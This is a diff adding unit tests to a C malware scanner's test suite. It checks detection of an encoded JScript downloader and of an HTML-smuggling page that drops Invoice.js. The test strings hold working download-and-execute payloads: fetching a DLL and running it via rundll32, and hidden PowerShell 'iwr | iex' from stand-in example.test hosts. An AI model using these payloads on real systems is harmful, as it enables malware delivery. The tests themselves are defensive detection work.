@@ -135,6 +135,28 @@ static void vbe_downloader(void **st)
     free(enc);
 }
 
+static void jse_downloader(void **st)
+{
+    (void)st;
+    const char js[] = "var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n"
+                      "x.open(\"GET\", \"http://jse.example.test/p.dll\", false); x.send();\r\n"
+                      "var s = new ActiveXObject(\"ADODB.Stream\"); s.Open(); s.Type = 1; s.Write(x.ResponseBody);\r\n"
+                      "s.SaveToFile(\"C:\\\\ProgramData\\\\p.dll\", 2);\r\n"
+                      "new ActiveXObject(\"WScript.Shell\").Run(\"rundll32 C:\\\\ProgramData\\\\p.dll,Start\", 0);\r\n";
+    size_t n;
+    char *enc = eg_test_script_encode(js, &n);
+    assert_non_null(enc);
+    eg_report *r = scan_named(enc, n, "scan.jse");
+    const eg_object *c = child_of(r, 0);
+    assert_non_null(c);
+    assert_string_equal(c->name, "[decoded JScript]");
+    assert_true(rule_on(r, "SCRIPT.ENCODED", 0));
+    assert_true(rule_on(r, "SCRIPT.DOWNLOAD_EXECUTE", c->id));
+    assert_true(rule_on(r, "CMD.RUNDLL32", c->id));
+    eg_report_free(r);
+    free(enc);
+}
+
 static void js_wsf_hta_ps1(void **st)
 {
     (void)st;
@@ -283,6 +305,34 @@ static void html_blob(void **st)
     free(enc);
 }
 
+/* a smuggled script (text) is extracted; an image the page decodes is not a smuggled file */
+static void html_blob_text_and_image(void **st)
+{
+    (void)st;
+    const char js[] = "var s = new ActiveXObject('WScript.Shell'); s.Run('powershell -w hidden -c iwr "
+                      "http://blobjs.example.test/x.ps1 | iex', 0);";
+    char *ej = b64((const uint8_t *)js, sizeof js - 1);
+    uint8_t png[120] = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'};
+    for (size_t i = 8; i < sizeof png; i++)
+        png[i] = (uint8_t)(i * 13);
+    char *ep = b64(png, sizeof png);
+    char html[4096];
+    snprintf(html, sizeof html, "<html><script>var logo = \"%s\";\nvar p = \"%s\";\n"
+                                "var b = new Blob([atob(p)], {type: 'text/javascript'});\n"
+                                "var a = document.createElement('a'); a.href = URL.createObjectURL(b);\n"
+                                "a.download = 'Invoice.js'; a.click();</script></html>", ep, ej);
+    eg_report *r = scan_named(html, strlen(html), "invoice.html");
+    assert_int_equal(eg_report_object_count(r), 2);
+    const eg_object *c = child_of(r, 0);
+    assert_string_equal(c->name, "Invoice.js");
+    assert_int_equal(c->type, EG_T_SCRIPT);
+    assert_true(rule_on(r, "HTML.SMUGGLING", 0));
+    assert_true(rule_on(r, "CMD.DOWNLOAD_EXECUTE", c->id));
+    eg_report_free(r);
+    free(ej);
+    free(ep);
+}
+
 static void html_plain(void **st)
 {
     (void)st;
@@ -304,10 +354,11 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(vbs_download_execute), cmocka_unit_test(encoder_round_trip),
-        cmocka_unit_test(vbe_downloader),       cmocka_unit_test(js_wsf_hta_ps1),
+        cmocka_unit_test(vbe_downloader),       cmocka_unit_test(jse_downloader),
+        cmocka_unit_test(js_wsf_hta_ps1),
         cmocka_unit_test(benign_scripts),       cmocka_unit_test(obfuscated_chr),
         cmocka_unit_test(html_data_uri),        cmocka_unit_test(html_blob),
-        cmocka_unit_test(html_plain),
+        cmocka_unit_test(html_blob_text_and_image), cmocka_unit_test(html_plain),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
